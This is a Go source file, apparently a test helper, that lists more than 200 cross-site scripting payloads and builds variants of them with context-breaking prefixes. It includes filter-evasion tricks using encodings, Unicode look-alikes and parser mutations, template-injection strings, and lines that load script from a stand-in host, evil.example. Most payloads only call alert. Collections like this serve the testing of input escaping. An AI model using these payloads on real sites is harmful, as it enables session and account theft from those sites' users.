package bottest

import "strings"

// XSS returns texts that have run as scripts in pages which showed them: more than 200. Each calls
// alert where it runs.
func XSS() []string {
	var all []string
	all = append(all, xss...)
	for _, v := range xss[:24] { // out of what they may stand in
		for _, before := range []string{`">`, `'>`, `</title>`, `</textarea>`, `-->`, `</script>`} {
			all = append(all, before+v)
		}
		all = append(all, strings.ToUpper(v))
	}
	return all
}

// xss are the classic ways, those that are varied first.
var xss = []string{
	`<script>alert(1)</script>`,
	`<script src=//evil.example/x.js></script>`,
	`<img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`,
	`<svg/onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<body onload=alert(1)>`,
	`<iframe src=javascript:alert(1)>`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<form action=javascript:alert(1)><button>x</button></form>`,
	`<button formaction=javascript:alert(1)>x</button>`,
	`<input autofocus onfocus=alert(1)>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<video><source onerror=alert(1)></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<object data=javascript:alert(1)>`,
	`<embed src=javascript:alert(1)>`,
	`<math><a xlink:href="javascript:alert(1)">x</a></math>`,
	`<link rel=stylesheet href=javascript:alert(1)>`,
	`<base href=javascript:alert(1)//>`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
	`<style>@import 'javascript:alert(1)';</style>`,

	// attributes: out of one, without quotes, by events of their own
	`" onmouseover="alert(1)`, `' onmouseover='alert(1)`, "` onmouseover=`alert(1)", `" autofocus onfocus="alert(1)`, `x onclick=alert(1)`,
	`" style="animation-name:x" onanimationstart="alert(1)`, `" onpointerrawupdate="alert(1)`, `"/onload="alert(1)`, `"=alert(1)//`, `'-alert(1)-'`,
	`<x onclick=alert(1)>x</x>`, `<x contenteditable onblur=alert(1)>`, `<x onbeforematch=alert(1) hidden=until-found>x</x>`, `<x onscrollend=alert(1)>`,
	`<p onpointerenter=alert(1)>x</p>`, `<select autofocus onfocus=alert(1)>`, `<textarea autofocus onfocus=alert(1)>`, `<keygen autofocus onfocus=alert(1)>`,
	`<marquee onstart=alert(1)>`, `<img/src/onerror=alert(1)>`, `<img src=x:x onerror\x00=alert(1)>`, "<img src=x onerror\n=alert(1)>", "<img\tsrc=x\tonerror=alert(1)>",
	"<img src=x\fonerror=alert(1)>", `<img src="x"onerror="alert(1)">`, `<img src=x onerror=&#97;lert(1)>`, `<img src=x onerror=\u0061lert(1)>`, `<IMG """><SCRIPT>alert(1)</SCRIPT>">`,
	`<img src=x onerror="javascript:alert(1)"`, `<img srcset="x 1x" onerror=alert(1)>`, `<img lowsrc=javascript:alert(1)>`, `<input type=image src=x onerror=alert(1)>`,
	`<popover id=x onbeforetoggle=alert(1) popover>`, `<dialog open onclose=alert(1)>`, `<video poster=javascript:alert(1)//>`, `<video src=x onloadstart=alert(1)>`,

	// svg and mathml
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><set onbegin=alert(1) attributename=x>`, `<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x">`, `<svg><foreignObject><body onload=alert(1)></foreignObject></svg>`,
	`<svg><image href=x onerror=alert(1)>`, `<svg><discard onbegin=alert(1)>`, `<svg><script href=data:,alert(1) />`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>`, `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
	`<math href="javascript:alert(1)">x</math>`, `<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>`, `<math><mtext><script>alert(1)</script></mtext></math>`,

	// what a parser makes of broken mark-up, and what it makes of that when it is written again
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<table><td background=javascript:alert(1)>`, `<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>`,
	`<xmp><p title="</xmp><svg/onload=alert(1)>">`, `<plaintext><script>alert(1)</script>`, `<template><script>alert(1)</script></template>`, `<template shadowrootmode=open><img src=x onerror=alert(1)></template>`,
	`<!--><img src=x onerror=alert(1)>-->`, `<!-- --!><img src=x onerror=alert(1)>`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;`, `<%><img src=x onerror=alert(1)>`,
	`</<script>alert(1)</script>`, `<<script>alert(1)//<</script>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script/x>alert(1)</script >`, "<script\x0b>alert(1)</script>", `<script>alert(1)`, `<script <B>alert(1)</script>`,
	`</br style=a:expression(alert(1))>`, `<select><option><style></option></select><img src=x onerror=alert(1)></style>`, `<image src=x onerror=alert(1)>`, `<isindex type=image src=1 onerror=alert(1)>`,

	// templates, and strings of scripts
	"{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "`${alert(1)}`", `{{7*7}}<script>alert(1)</script>`, `{{.}}{{template "main" .}}`, `{{define "main"}}x{{end}}`, `<%= alert(1) %>`, `#{alert(1)}`, `[[${alert(1)}]]`,
	`';alert(1)//`, `";alert(1)//`, `\';alert(1)//`, `\";alert(1)//`, `</script><script>alert(1)</script>`, "\u2028alert(1)", "\u2029alert(1)", `<!--<script>`, `]]>alert(1)`, `*/alert(1)/*`, `'+alert(1)+'`, `__proto__`, `constructor`,

	// entities
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&#x3c;img src=x onerror=alert(1)&#x3e;`, `&amp;lt;script&amp;gt;alert(1)`, `%3Cscript%3Ealert(1)%3C/script%3E`, `\u003cscript\u003ealert(1)\u003c/script\u003e`,
	`\x3cscript\x3ealert(1)\x3c/script\x3e`, `&lt;img src=x onerror&equals;alert&lpar;1&rpar;&gt;`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `%253Cscript%253Ealert(1)`,

	// addresses
	`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, `javascript&colon;alert(1)`, "java\nscript:alert(1)", "\x01javascript:alert(1)", ` javascript:alert(1)`, `javascript://example.org/%0aalert(1)`, `vbscript:msgbox(1)`, `livescript:alert(1)`,
	`data:text/html,<script>alert(1)</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=alert(1)>`, `blob:https://example.org/x`, `filesystem:https://example.org/x`, `//evil.example/x.js`, `/\evil.example`,
	`https://example.org/"onmouseover="alert(1)`, `https://example.org/?a=<script>alert(1)</script>`, `https://javascript:alert(1)@example.org/`, `view-source:javascript:alert(1)`, `feed:javascript:alert(1)`, `jar:https://evil.example!/x`,

	// characters that are more than they seem
	`＜script＞alert(1)＜/script＞`, `‹script›alert(1)‹/script›`, `<ſcript>alert(1)</ſcript>`, "<scr\u200bipt>alert(1)</scr\u200bipt>", "<scr\x00ipt>alert(1)</scr\x00ipt>", "\u202e>)1(trela=rorreno x=crs gmi<", "<ımg src=x onerror=alert(1)>",
	"<script\u00a0>alert(1)</script>", "\ufeff<script>alert(1)</script>", "<img src=x onerror=alert\uff081\uff09>", "<\u0073cript>alert(1)</\u0073cript>", "ʺ onmouseover=ʺalert(1)", "\U000e003cscript\U000e003ealert(1)",
	"\xbcscript\xbealert(1)\xbc/script\xbe", "\xc0\xbcscript\xc0\xbealert(1)", "\xff<script>alert(1)</script>",
}
